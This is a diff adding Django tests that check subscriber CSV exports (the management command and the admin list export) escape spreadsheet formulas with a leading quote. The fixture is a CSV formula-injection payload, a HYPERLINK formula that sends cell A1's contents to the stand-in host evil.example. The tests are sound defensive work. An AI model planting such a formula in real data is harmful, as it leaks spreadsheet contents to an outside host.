@@ -276,3 +276,24 @@ def test_a_sent_newsletter_only_goes_out_again_when_asked_explicitly(
     with django_capture_on_commit_callbacks(execute=True):
         client.post(url, {"send": "1", "send-scheduled_at": "", "send-again": "on"})
     assert len(smtp_server.messages) == 4
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+
+
+def test_export_command_neutralises_formulas():
+    SubscriberFactory(email="a@school.nl", name=FORMULA)
+    out = io.StringIO()
+
+    call_command("export_subscribers", stdout=out)
+
+    assert list(csv.DictReader(io.StringIO(out.getvalue())))[0]["name"] == "'" + FORMULA
+
+
+def test_admin_list_export_neutralises_formulas(admin_client):
+    SubscriberFactory(email="a@school.nl", name=FORMULA)
+
+    response = admin_client.get(reverse("wagtailsnippets_newsletters_subscriber:list"), {"export": "csv"})
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][:2] == ["a@school.nl", "'" + FORMULA]
